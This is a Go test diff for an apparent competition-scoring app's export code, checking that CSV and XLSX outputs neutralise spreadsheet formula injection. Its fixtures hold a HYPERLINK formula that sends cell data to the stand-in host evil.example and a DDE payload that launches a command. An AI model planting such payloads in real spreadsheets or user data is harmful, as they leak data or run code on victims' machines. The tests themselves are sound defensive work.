@@ -7,6 +7,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"testing"
 	"time"
@@ -17,6 +18,7 @@ import (
 	"skillscore/certificates"
 	"skillscore/demo"
 	"skillscore/exports"
+	"skillscore/idnumber"
 	"skillscore/internal/testenv"
 	"skillscore/results"
 	"skillscore/store"
@@ -302,4 +304,97 @@ func contains(fields []string, s string) bool {
 		}
 	}
 	return false
+}
+
+// plainNumber is a cell that is wholly a decimal number: it is not a formula.
+var plainNumber = regexp.MustCompile(`^[+-]?[0-9]+(\.[0-9]+)?$`)
+
+// TestAuditCSVNeutralisesFormulas: a roster file named like a formula lands
+// in the audit trail; the CSV carries it as text (a leading '), as it does
+// every cell starting with =, +, -, @, tab or CR, and the escape is undone
+// by dropping that one quote.
+func TestAuditCSVNeutralisesFormulas(t *testing.T) {
+	ctx := context.Background()
+	st, ev := demoEvent(t)
+	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"名单")`
+	id, err := idnumber.Make("361102", time.Date(1990, 3, 1, 0, 0, 0, 0, time.UTC), 7)
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := store.Contestant{Name: "注入测试", Gender: "男", IDType: "居民身份证", IDNumber: id,
+		Organization: "上饶市养老服务中心", City: "上饶", GroupCode: "employee", Level: 4}
+	if _, err := st.ImportRoster(ctx, store.RosterImport{EventID: ev.ID, FileName: evil, SHA256: strings.Repeat("ab", 32),
+		Actor: "@organizer"}, []store.Contestant{c}, nil); err != nil {
+		t.Fatal(err)
+	}
+	x := exports.New(st, certificates.DefaultSongFont, certificates.DefaultKaiFont)
+	f, err := x.Build(ctx, ev, exports.AuditCSV)
+	if err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(f.Data[3:])).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, r := range recs {
+		for _, cell := range r {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell) {
+				t.Errorf("cell %q would run as a formula", cell)
+			}
+		}
+		if r[3] == "roster.import" {
+			found = true
+			if r[4] != "'"+evil || r[2] != "'@organizer" {
+				t.Errorf("roster import row %q: want the file name and actor with a leading '", r)
+			}
+		}
+	}
+	if !found {
+		t.Fatal("no roster.import row in the audit CSV")
+	}
+	for _, c := range []struct{ in, out string }{
+		{"=1+1", "'=1+1"}, {"+A1", "'+A1"}, {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"}, {"@SUM(A1)", "'@SUM(A1)"},
+		{"\t=1", "'\t=1"}, {"\r=1", "'\r=1"}, {"'=1", "''=1"}, {"-5", "-5"}, {"+3.25", "+3.25"}, {"-", "'-"},
+		{"-5e3", "'-5e3"}, {"张三", "张三"}, {"", ""}, {"a=b", "a=b"},
+	} {
+		if got := exports.CSVCell(c.in); got != c.out {
+			t.Errorf("CSVCell(%q) = %q, want %q", c.in, got, c.out)
+		}
+	}
+}
+
+// TestXLSXCellsAreText: the .xlsx exports write every cell as a string, so a
+// name like a formula is shown as typed and never evaluated.
+func TestXLSXCellsAreText(t *testing.T) {
+	const evil = `=HYPERLINK("http://evil.example/","点我")`
+	tbl := &exports.Table{Event: store.Event{Name: "注入测试赛"}, Header: []string{"姓名", "总分"}, Rows: [][]string{{evil, "-5"}, {"@SUM(A1)", "+1"}}}
+	data, err := tbl.XLSX()
+	if err != nil {
+		t.Fatal(err)
+	}
+	xf, err := excelize.OpenReader(bytes.NewReader(data))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer xf.Close()
+	sheet := xf.GetSheetList()[0]
+	for _, cell := range []string{"A3", "B3", "A4", "B4"} {
+		if formula, err := xf.GetCellFormula(sheet, cell); err != nil || formula != "" {
+			t.Errorf("%s carries formula %q (%v)", cell, formula, err)
+		}
+		if typ, err := xf.GetCellType(sheet, cell); err != nil || typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
+			t.Errorf("%s has cell type %v, want a string (%v)", cell, typ, err)
+		}
+	}
+	if v, _ := xf.GetCellValue(sheet, "A3"); v != evil {
+		t.Errorf("A3 = %q, want the name as typed", v)
+	}
+	// The check above can fail: a cell set as a formula is seen as one.
+	if err := xf.SetCellFormula(sheet, "C3", "1+1"); err != nil {
+		t.Fatal(err)
+	}
+	if formula, _ := xf.GetCellFormula(sheet, "C3"); formula == "" {
+		t.Fatal("GetCellFormula does not see a real formula: the check proves nothing")
+	}
 }
